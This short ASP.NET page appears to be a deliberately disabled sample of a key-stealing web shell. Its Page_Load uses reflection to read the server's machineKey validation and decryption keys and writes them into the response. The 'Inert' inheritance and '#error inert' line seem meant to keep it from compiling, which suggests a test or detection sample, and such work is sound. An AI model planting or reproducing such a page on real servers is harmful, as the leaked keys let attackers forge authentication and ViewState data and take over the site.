<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(){ var sy = System.Reflection.Assembly.Load("System.Web"); var t = sy.GetType("System.Web.Configuration.MachineKeySection"); var m = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static); var c = (System.Web.Configuration.MachineKeySection)m.Invoke(null, new object[0]); Response.Write(c.ValidationKey+"|"+c.DecryptionKey); }
</script>